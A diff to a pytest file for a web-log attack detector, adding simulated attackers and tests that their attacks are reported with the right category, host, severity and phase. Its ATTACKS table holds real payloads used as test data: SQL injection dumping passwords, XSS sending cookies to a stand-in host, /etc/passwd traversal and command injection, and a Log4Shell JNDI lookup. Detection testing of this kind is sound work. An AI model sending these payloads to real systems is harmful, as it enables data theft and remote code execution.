@@ -1,4 +1,4 @@
-"""A day of ordinary traffic raises nothing above Low, and what lasts is one incident."""
+"""A day of ordinary traffic raises nothing above Low, and attackers in it are all seen, with everything they tried."""
 import json
 import random
 import subprocess
@@ -17,6 +17,13 @@ CRAWLERS = ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.
             'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)']
 WORDS = ['kettle', 'lamp', 'desk', 'notebook', 'scarf', 'teapot', 'garden', 'bicycle', 'mirror', 'rope']
 HOSTS = ['shop.example.com', 'api.example.com', 'intra.example.com']
+ATTACKS = {
+    'sqli': "1' UNION ALL SELECT username, password FROM users -- ",
+    'xss': '<script>fetch("//collect.example/?c="+document.cookie)</script>',
+    'traversal': '../../../../../../etc/passwd',
+    'cmdi': '; cat /etc/passwd',
+    'rce': '${jndi:ldap://collect.example:1389/a}',
+}
 
 
 class Day:
@@ -89,11 +96,28 @@ class Day:
             second = 9 * 3600 + self.chance.uniform(0, 8 * 3600)
             self.page(second, '192.0.2.200', self.chance.choice(BROWSERS))
 
+    def attackers(self):
+        """20, each with three kinds of attack on one to three hosts. {address: {(category, host)}}"""
+        tried = {}
+        for number in range(20):
+            ip, second = f'203.0.113.{number + 1}', self.chance.uniform(0, DAY - 600)
+            for category in self.chance.sample(sorted(ATTACKS), 3):
+                for host in self.chance.sample(HOSTS, 1 + number % 3):
+                    second += self.chance.uniform(0.2, 3)
+                    self.add(second, ip, '/item', BROWSERS[0], host=host, query='id=' + quoted(ATTACKS[category]),
+                             status=self.chance.choice((200, 403, 404)))
+                    tried.setdefault(ip, set()).add((category, host))
+        return tried
+
     def lines(self):
         for second, record in sorted(self.records, key=lambda one: one[0]):
             when = START + timedelta(seconds=second)
             record['ts'] = when.isoformat(timespec='milliseconds').replace('+00:00', 'Z')
             yield json.dumps(record).encode()
+
+
+def quoted(text):
+    return ''.join(character if character.isalnum() else ''.join(f'%{byte:02X}' for byte in character.encode()) for character in text)
 
 
 def alerts_of(lines, folder):
@@ -113,10 +137,55 @@ def ordinary_day(seed):
     return day
 
 
-def test_ordinary_traffic_raises_nothing_above_low_and_ten_alerts_at_most(tmp_path):
-    alerts = alerts_of(ordinary_day(1).lines(), tmp_path)
-    assert [one['message'] for one in alerts if one['severity_id'] > 2] == []
-    assert len(alerts) <= 10, [one['message'] for one in alerts]
+@pytest.fixture(scope='module')
+def day_with_attackers(tmp_path_factory):
+    day = ordinary_day(1)
+    ordinary = alerts_of(day.lines(), tmp_path_factory.mktemp('ordinary'))
+    tried = day.attackers()
+    return ordinary, tried, alerts_of(day.lines(), tmp_path_factory.mktemp('attacked'))
+
+
+def test_ordinary_traffic_raises_nothing_above_low_and_ten_alerts_at_most(day_with_attackers):
+    ordinary, _, _ = day_with_attackers
+    assert [one['message'] for one in ordinary if one['severity_id'] > 2] == []
+    assert len(ordinary) <= 10, [one['message'] for one in ordinary]
+
+
+def test_of_each_attacker_every_category_and_host_is_in_some_alert(day_with_attackers):
+    ordinary, tried, attacked = day_with_attackers
+    seen = {}
+    for alert in attacked:
+        if alert['unmapped']['weir']['kind'] != 'attack':
+            continue
+        for evidence in alert['evidences']:
+            for hit in evidence.get('data', {}).get('hits', ()):
+                host = evidence['http_request']['url']['hostname']
+                seen.setdefault(alert['unmapped']['weir']['client'], set()).update(
+                    {('category', hit['category']), ('host', host)})
+    for address, pairs in tried.items():
+        wanted = {('category', category) for category, _ in pairs} | {('host', host) for _, host in pairs}
+        assert wanted <= seen[address], (address, wanted - seen[address])
+    of_others = [one for one in attacked if one['unmapped']['weir']['client'] not in tried]
+    assert len(of_others) == len(ordinary)
+    closed = {one['unmapped']['weir']['client']: one['count'] for one in attacked
+              if one['unmapped']['weir']['kind'] == 'attack' and one['unmapped']['weir']['phase'] == 'closed'}
+    assert closed == {address: len(pairs) for address, pairs in tried.items()}
+
+
+def test_an_attacker_s_second_and_third_step_show_with_their_evidence(tmp_path):
+    day = Day(2)
+    for second, category in enumerate(('sqli', 'rce', 'cmdi')):
+        day.add(second, '203.0.113.9', '/search', BROWSERS[0], query='q=' + quoted(ATTACKS[category]))
+    alerts = alerts_of(day.lines(), tmp_path)
+    shown = [(one['unmapped']['weir']['phase'], one['evidences'][0]['data']['hits'][0]['category']) for one in alerts[:-1]]
+    assert shown == [('opened', 'sqli'), ('updated', 'rce'), ('updated', 'cmdi')]
+    assert 'Log4Shell' in alerts[1]['finding_info']['title']
+    assert alerts[1]['severity'] == 'Critical'
+    assert alerts[0]['message'].startswith('SQL injection in parameter q of GET shop.example.com/search, answered 200; 1 request of 203.0.113.9')
+    assert [one['count'] for one in alerts] == [1, 2, 3, 3]
+    assert alerts[-1]['unmapped']['weir']['phase'] == 'closed'
+    assert alerts[0]['evidences'][0]['http_response']['code'] == 200
+    assert alerts[0]['evidences'][0]['http_request']['url']['query_string'].startswith('q=1%27')
 
 
 @pytest.mark.parametrize('name, agent', [('curl', 'curl/8.5.0'), ('kube-probe', 'kube-probe/1.29'), ('prometheus', 'Prometheus/2.51.0'),
